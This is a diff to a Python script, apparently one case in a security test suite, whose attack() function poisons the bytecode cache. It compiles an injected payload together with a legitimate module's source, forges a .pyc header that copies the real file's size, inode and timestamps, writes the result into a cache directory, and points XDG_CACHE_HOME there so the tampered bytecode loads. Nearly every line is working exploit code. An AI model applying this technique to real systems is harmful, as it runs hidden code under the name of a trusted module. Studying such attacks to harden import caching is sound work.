@@ -4,14 +4,23 @@ REACH = "net"
 POLICIES = "baseline"
 SILENT = "The child has the cache that its parent has."
 
-import hashlib
 import marshal
 import os
 import struct
 import sys
-from importlib.util import MAGIC_NUMBER, source_hash
+from importlib.util import MAGIC_NUMBER
 
 from . import payload
+
+
+KIND = 0x33637069
+
+
+def sum_of(body):
+    result = len(body)
+    for word, in struct.iter_unpack("=Q", body + bytes(32 - len(body) % 32)):
+        result = (result ^ word) * 0x9e3779b97f4a7c15 % 2**64
+    return result
 
 
 def attack():
@@ -23,16 +32,15 @@ def attack():
         code = compile(payload.SOURCE + "\n" + file.read(), good.__file__,
                        "exec")
     body = marshal.dumps(code)
+    text = f"{sys.version}\n{good.__file__}".encode()
     status = os.stat(good.__file__)
     header = struct.pack(
-        "<IIQQQQQ", 0x31637069, int.from_bytes(MAGIC_NUMBER, "little"),
-        status.st_size, status.st_ino, status.st_mtime_ns,
-        status.st_ctime_ns, int.from_bytes(_imp.source_hash(
-            0x31637069, body), "little"))
-    text = f"{sys.version}\n0\n{good.__file__}"
-    name = hashlib.sha256(text.encode()).hexdigest()[:32]
+        "=IIIIQQQQQ", KIND, int.from_bytes(MAGIC_NUMBER, "little"), 0,
+        len(text), status.st_size, status.st_ino, status.st_mtime_ns,
+        status.st_ctime_ns, sum_of(body))
+    name = _imp.source_hash(KIND, text)[::-1].hex()
     path = payload.ROOT + "/tmp/cpython-importpolicy/bytecode"
     os.makedirs(path, 0o700)
     with open(f"{path}/__init__-{name}.pyc", "wb") as file:
-        file.write(header + body)
+        file.write(header + text + body)
     os.environ["XDG_CACHE_HOME"] = payload.ROOT + "/tmp"
